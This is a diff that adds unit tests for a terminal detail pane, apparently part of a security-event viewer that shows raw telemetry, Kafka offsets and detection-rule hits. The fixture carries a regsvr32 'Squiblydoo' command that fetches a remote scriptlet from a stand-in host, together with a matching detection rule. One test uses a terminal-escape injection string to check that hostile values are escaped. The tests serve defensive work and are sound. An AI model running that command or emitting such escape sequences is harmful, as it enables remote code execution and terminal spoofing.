@@ -1,0 +1,59 @@
+import React from 'react';
+import {render} from 'ink-testing-library';
+import {describe, expect, it} from 'vitest';
+import {detailLines} from '../../source/components/detail-lines.js';
+import {DetailPane} from '../../source/components/detail-pane.js';
+import {defaultTheme} from '../../source/theme/theme.js';
+import {makeEvent} from '../helpers/events.js';
+
+const cmd = 'regsvr32.exe /s /u /i:http://evil.example/x.sct scrobj.dll';
+const ev = makeEvent({
+	seq: 42,
+	host: 'WS-FIN-04',
+	summary: cmd,
+	kafka: {topic: 'telemetry', partition: 2, offset: '1234', timestamp: 1_700_000_000_500, timestampType: 'CreateTime'},
+	time: 1_700_000_000_000,
+	receivedAt: 1_700_000_001_000,
+	raw: {'event.type': 'Process Creation', 'tgt.process.cmdline': cmd, 'endpoint.name': 'WS-FIN-04', pid: 4242},
+	hits: [{id: 'rule-1', title: 'Regsvr32 Remote Scriptlet', level: 'high', tags: ['attack.t1218.010'], description: 'Squiblydoo', fields: [{field: 'CommandLine', value: cmd, spans: [[cmd.indexOf('http'), cmd.indexOf('.sct') + 4]]}]}],
+});
+
+describe('DetailPane', () => {
+	it('shows the hits, the raw JSON and the normalized fields with Kafka coordinates and latency', () => {
+		const lines = detailLines(ev, 100, defaultTheme);
+		const app = render(<DetailPane lines={lines} scroll={0} height={40} width={100} theme={defaultTheme} edge="none" />);
+		const frame = app.lastFrame()!;
+		expect(frame).toContain('rule hits (1)');
+		expect(frame).toContain('HIGH Regsvr32 Remote Scriptlet');
+		expect(frame).toContain('tags: attack.t1218.010');
+		expect(frame).toContain('"tgt.process.cmdline": "regsvr32.exe');
+		expect(frame).toContain('"pid": 4242');
+		expect(frame).toContain('kafka topic');
+		expect(frame).toMatch(/kafka offset +1234/);
+		expect(frame).toMatch(/receive - event +1s/);
+	});
+
+	it('marks the value the rule matched inside the raw JSON', () => {
+		const lines = detailLines(ev, 100, defaultTheme);
+		const marked = lines.flat().filter(s => s.style === defaultTheme.json.match).map(s => s.text);
+		expect(marked).toContain('http://evil.example/x.sct');
+	});
+
+	it('scrolls, wraps long lines inside the pane, and keeps every row within the width', () => {
+		const long = makeEvent({raw: {cmd: 'x'.repeat(300)}});
+		const lines = detailLines(long, 40, defaultTheme);
+		const app = render(<DetailPane lines={lines} scroll={3} height={6} width={40} theme={defaultTheme} edge="top" />);
+		const rows = app.lastFrame()!.split('\n');
+		expect(rows).toHaveLength(6);
+		expect(rows[0]).toMatch(/^── detail/);
+		for (const r of rows) expect(r.length).toBeLessThanOrEqual(40);
+		expect(lines.filter(l => l.some(s => s.text.includes('xxxxxxxx'))).length).toBeGreaterThan(5);
+	});
+
+	it('escapes hostile raw values', () => {
+		const evil = makeEvent({raw: {cmd: 'a\u001b]0;owned\u0007\u202e'}});
+		const text = detailLines(evil, 80, defaultTheme).flat().map(s => s.text).join('');
+		expect(text).not.toMatch(/[\u001b\u0007\u202e]/);
+		expect(text).toContain('\\u202e');
+	});
+});
